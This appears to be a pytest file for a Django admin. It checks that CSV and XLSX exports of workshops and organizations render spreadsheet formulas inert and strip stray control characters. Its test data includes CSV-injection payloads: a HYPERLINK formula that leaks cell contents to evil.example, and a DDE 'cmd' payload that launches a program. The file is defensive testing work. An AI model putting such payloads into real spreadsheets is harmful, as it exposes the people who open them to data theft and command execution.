"""Every spreadsheet the admin writes is safe to open: no cell is a live formula, and a row
with a control character in it (stored before inputs refused them) does not break it."""

import csv
import io

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.urls import reverse

from core.editorial.spreadsheets import FORMULA_STARTS, XLSX, FormulaSafeMixin
from tests.editorial import login_as
from tests.factories import OrganizationFactory, SeriesFactory, WorkshopFactory
from workshops.models import Workshop

pytestmark = pytest.mark.django_db

CSV_FORMAT, XLSX_FORMAT = "0", "1"
# Each way a spreadsheet reads a cell as a formula (full-width forms included).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "==1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\uff1d1+1",
]


def rows(response, file_format):
    if file_format == CSV_FORMAT:
        return list(csv.reader(io.StringIO(response.content.decode())))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # never stored as a formula
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def assert_no_formula(table):
    for row in table:
        for cell in row:
            assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), cell


def test_every_admin_export_and_import_uses_the_formula_safe_formats(rf, admin_user):
    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if hasattr(model_admin, "get_export_formats")
    ]

    assert exporting  # workshops and organizations at least
    for model_admin in exporting:
        formats = model_admin.get_export_formats()
        if hasattr(model_admin, "get_import_formats"):
            formats += model_admin.get_import_formats()
        assert formats
        assert all(issubclass(f, FormulaSafeMixin) for f in formats), model_admin


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_workshop_export_writes_formulas_as_text(client, file_format):
    login_as(client, "publisher")
    series = SeriesFactory(slug="kmi")
    for number, title in enumerate(FORMULAS, start=1):
        WorkshopFactory(series=series, number=number, title=title, venue=title)

    response = client.post(
        reverse("admin:workshops_workshop_export"), {"format": file_format, "resource": "0"}
    )

    table = rows(response, file_format)
    assert_no_formula(table)
    title = table[0].index("title")
    assert sorted(row[title] for row in table[1:]) == sorted("'" + t for t in FORMULAS)


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_organization_export_writes_formulas_as_text(client, file_format):
    login_as(client, "publisher")
    for number, name in enumerate(FORMULAS):
        OrganizationFactory(slug=f"o{number}", name=name, acronym=name[:10], description=name)

    response = client.post(
        reverse("admin:organizations_organization_export"),
        {"format": file_format, "resource": "0"}
        | {f"organizationresource_{name}": "on" for name in ("slug", "name", "description")},
    )

    table = rows(response, file_format)
    assert_no_formula(table)
    name = table[0].index("name")
    assert sorted(row[name] for row in table[1:]) == sorted("'" + n for n in FORMULAS)


def test_exported_formula_titles_import_back_unchanged(client):
    file_format = CSV_FORMAT
    login_as(client, "publisher")
    series = SeriesFactory(slug="kmi")
    for number, title in enumerate(FORMULAS, start=1):
        WorkshopFactory(series=series, number=number, title=title)
    exported = client.post(
        reverse("admin:workshops_workshop_export"), {"format": file_format, "resource": "0"}
    ).content

    from django.core.files.uploadedfile import SimpleUploadedFile

    preview = client.post(
        reverse("admin:workshops_workshop_import"),
        {
            "resource": "0",
            "format": file_format,
            "import_file": SimpleUploadedFile("back.xlsx", exported),
        },
    )

    result = preview.context["result"]
    assert not result.has_errors()
    assert [row.import_type for row in result.rows] == ["skip"] * len(FORMULAS)


def test_an_xlsx_import_takes_the_protecting_apostrophe_off():
    exported = tablib.Dataset(*[(t, "'kept", "-") for t in FORMULAS], headers=["a", "b", "c"])
    sheet = XLSX().export_data(exported)

    dataset = XLSX().create_dataset(sheet)

    assert [list(row) for row in dataset] == [[t, "'kept", "-"] for t in FORMULAS]


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_export_drops_control_characters_stored_before_inputs_refused_them(client, file_format):
    login_as(client, "publisher")
    title = "Migration\x0b\x7f and\x1b work"  # not NUL: PostgreSQL cannot store it
    WorkshopFactory(series=SeriesFactory(slug="kmi"), number=1, title=title)

    response = client.post(
        reverse("admin:workshops_workshop_export"), {"format": file_format, "resource": "0"}
    )

    assert response.status_code == 200
    table = rows(response, file_format)
    assert table[1][table[0].index("title")] == "Migration and work"
    assert Workshop.objects.get().title == title
